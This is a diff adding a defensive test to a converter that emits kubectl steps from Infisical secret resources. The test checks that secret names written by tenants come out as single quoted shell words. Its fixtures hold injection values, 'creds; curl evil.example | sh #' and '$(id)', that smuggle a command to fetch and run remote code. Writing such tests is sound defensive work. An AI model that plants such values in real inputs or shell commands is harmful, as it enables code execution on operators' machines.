@@ -8,6 +8,7 @@ models; every case checks the objects field by field, the notes, and the exit st
 from __future__ import annotations
 
 import json
+import shlex
 import subprocess
 import sys
 from pathlib import Path
@@ -717,3 +718,29 @@ def test_convert_loads_neither_the_operator_nor_the_kubernetes_client() -> None:
     )
     assert proc.returncode == 0, proc.stderr
     assert json.loads(proc.stdout) == [1, []]
+
+
+def test_names_in_the_steps_reach_a_shell_as_single_quoted_words() -> None:
+    # The input is often objects tenants wrote, and a reference in an Infisical CR is any string:
+    # a person pastes these steps into a shell, so no name may become a command of its own.
+    hostile = "creds; curl evil.example | sh #"
+    obj = _infisical_secret(
+        "app",
+        authentication={
+            "universalAuth": {
+                "credentialsRef": {"secretName": hostile, "secretNamespace": "ns"},
+                "secretsScope": {"projectSlug": "p", "envSlug": "dev", "secretsPath": "/"},
+            }
+        },
+        managedKubeSecretReferences=[{"secretName": "$(id)", "secretNamespace": "ns"}],
+    )
+    result = convert.convert([obj])
+    opt_in = [s for s in result.steps if "allowed-identities" in s]
+    assert opt_in, result.steps
+    for step in result.steps:
+        words = shlex.split(step)
+        assert words[0] == "kubectl"
+        assert ";" not in words and "|" not in words
+    assert hostile in shlex.split(opt_in[0])  # one word, unchanged
+    rendered = convert.render(result)
+    assert "; curl" not in rendered.replace(f"'{hostile}'", "")
